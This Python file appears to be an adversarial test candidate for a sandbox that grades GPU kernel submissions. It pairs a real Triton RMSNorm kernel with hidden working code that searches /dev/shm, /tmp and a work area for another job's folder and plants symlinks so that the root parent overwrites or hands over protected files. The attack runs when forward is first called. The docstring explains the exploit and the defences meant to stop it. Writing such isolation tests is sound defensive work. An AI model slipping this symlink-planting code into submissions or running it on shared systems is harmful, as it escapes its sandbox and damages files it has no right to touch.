"""plant_links: reach the next candidate's work folder and plant symbolic links where the
root parent will write or change ownership, so that root overwrites or hands over files
that are not the sandbox's.

Exploit: seen against an earlier sandbox. A GPU worker starts the child for its next job
ahead of time; that child's work folder was owned by the same sandbox uid, under the
world-listable /dev/shm. A running candidate found it and planted `candidate.py` and
files under `operator/` as links to root-only files; root, writing the next candidate's
files and chowning the folder by path, followed the links, overwrote one file and chowned
another to the sandbox uid. This candidate looks for work folders in /dev/shm, /tmp and
the worker's work area (__AREA__: the path an attacker would learn from an earlier
error message), plants links to __TARGET__ (a root-only file the test made) under every
name the parent writes, and reports how many it planted.

What should catch it: the child's private root (harness/isolation/jail.py) has an empty /tmp and
/dev/shm of its own and no view of the work area; the folders the parent writes into are
root's (harness/isolation/workarea.py), and it writes with O_EXCL | O_NOFOLLOW relative to a folder
descriptor and changes ownership only on descriptors.
"""

import json
import os

import torch
import triton
import triton.language as tl


@triton.jit
def _rms_norm_kernel(x_ptr, w_ptr, out_ptr, x_stride, out_stride, n_cols, eps,
                     BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    cols = tl.arange(0, BLOCK)
    mask = cols < n_cols
    x = tl.load(x_ptr + row * x_stride + cols, mask=mask, other=0.0).to(tl.float32)
    rstd = tl.math.rsqrt(tl.sum(x * x, axis=0) / n_cols + eps)
    w = tl.load(w_ptr + cols, mask=mask, other=0.0).to(tl.float32)
    normed = (x * rstd).to(out_ptr.dtype.element_ty).to(tl.float32)
    tl.store(out_ptr + row * out_stride + cols, (normed * w).to(out_ptr.dtype.element_ty),
             mask=mask)


def _rms_norm(x, weight, eps):
    n_rows, n_cols = x.shape
    out = torch.empty_like(x)
    block = triton.next_power_of_2(n_cols)
    _rms_norm_kernel[(n_rows,)](x, weight, out, x.stride(0), out.stride(0), n_cols, eps,
                                BLOCK=block, num_warps=max(1, min(16, block // 256)))
    return out


AREA = "__AREA__"
TARGET = "__TARGET__"
_reported = [False]


def _work_folders():
    found = []
    for top in ("/dev/shm", "/tmp", AREA):
        for root, dirs, _files in os.walk(top):
            if root.count(os.sep) - top.count(os.sep) >= 3:
                dirs[:] = []
            for name in dirs:
                if name.startswith(("work", "child-", "atrex-child")):
                    found.append(os.path.join(root, name))
    return found


def _plant(folder, counts):
    for name in ("candidate.py", "operator", "home", "out", "tmp"):
        try:
            os.symlink(TARGET, os.path.join(folder, name))
            counts["planted"] += 1
        except OSError as exc:
            counts[type(exc).__name__] = counts.get(type(exc).__name__, 0) + 1


def _attack():
    counts = {"planted": 0}
    folders = _work_folders()
    mine = os.path.realpath(os.getcwd())
    for folder in folders:
        if os.path.realpath(folder) != mine:
            _plant(folder, counts)
    counts["folders"] = len(folders)
    return counts


class Model(torch.nn.Module):
    def __init__(self, eps: float = 1e-6) -> None:
        super().__init__()
        self.eps = eps

    def forward(self, x: torch.Tensor, weight: torch.Tensor) -> torch.Tensor:
        if not _reported[0]:
            _reported[0] = True
            raise RuntimeError("PLANTED" + json.dumps(_attack()) + "PLANTED")
        return _rms_norm(x, weight, self.eps)
